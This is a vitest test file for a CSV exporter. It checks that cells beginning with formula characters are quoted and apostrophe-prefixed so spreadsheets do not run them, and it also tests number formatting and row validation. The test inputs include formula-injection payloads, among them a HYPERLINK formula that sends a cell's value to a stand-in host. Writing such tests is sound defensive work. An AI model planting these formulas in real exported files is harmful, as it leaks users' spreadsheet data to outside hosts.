import { Decimal } from 'decimal.js';
import { describe, expect, test } from 'vitest';
import type { SpreadsheetCell } from '../../src/describe/views.ts';
import { spreadsheetToCsv } from '../../src/export/index.ts';
import { type CsvField, readWithHeadings } from './read-csv.ts';

/** One cell alone in its file, read back. */
function readCell(cell: SpreadsheetCell): CsvField {
  const [field] = readWithHeadings(spreadsheetToCsv({ headings: ['only'], rows: [[cell]] })).column('only');
  if (field === undefined) throw new RangeError('there is no row');
  return field;
}

describe('a text', () => {
  test.each([
    { kind: 'an equals sign', text: '=1+1' },
    { kind: 'a plus', text: '+1 555' },
    { kind: 'a minus', text: '-2+3' },
    { kind: 'an at sign', text: '@SUM(A1)' },
    { kind: 'a tab', text: '\t=1+1' },
    { kind: 'a carriage return', text: '\r=1+1' },
    { kind: 'a link', text: '=HYPERLINK("http://a.invalid/?x="&A1,"look")' },
  ])('that starts with $kind is no formula', ({ text }) => {
    const { text: read, isQuoted } = readCell(text);
    expect(isQuoted).toBe(true);
    expect(read.startsWith(`'${text.charAt(0)}`)).toBe(true);
    expect(read.replaceAll("'", '')).toBe(text);
  });

  test.each([
    { separator: ';', text: 'walk;=1+1;', read: "walk;'=1+1;" },
    { separator: '\t', text: 'walk\t@A1', read: "walk\t'@A1" },
    { separator: '\n', text: 'walk\n-1', read: "walk\n'-1" },
  ])('is none where a program cuts at $separator', ({ text, read }) => {
    expect(readCell(text).text).toBe(read);
  });

  test.each([
    'plain',
    '',
    ' ',
    'Old slab, the "high" one',
    '"',
    '""","',
    'two\nlines',
    'two\r\nlines',
    "O'Hara; 2 - 1 = 1 + 0 @ home",
    '4 1/2″ é 石',
    '12',
  ])('%j comes back as it was, in quotes', (text) => {
    expect(readCell(text)).toEqual({ text, isQuoted: true });
  });
});

describe('a number', () => {
  test.each([
    { cell: -2.5, text: '-2.5' },
    { cell: 0.1 + 0.2, text: '0.30000000000000004' },
    { cell: -0, text: '0' },
    { cell: new Decimal('1234.50'), text: '1234.5' },
    { cell: new Decimal('1e21'), text: '1000000000000000000000' },
    { cell: null, text: '' },
  ])('$text stands bare', ({ cell, text }) => {
    expect(readCell(cell)).toEqual({ text, isQuoted: false });
  });

  test.each([Number.NaN, Infinity, -Infinity, new Decimal(Number.NaN)])('%s is refused', (cell) => {
    expect(() => readCell(cell)).toThrow(RangeError);
  });
});

test.each([{ row: [] }, { row: ['a'] }, { row: ['a', 1, null] }])(
  'a row of other than two cells under two headings is refused: $row',
  ({ row }) => {
    expect(() => spreadsheetToCsv({ headings: ['x', 'y'], rows: [['a', 1], row] })).toThrow(
      `a row has ${row.length} cells under 2 headings`,
    );
  },
);
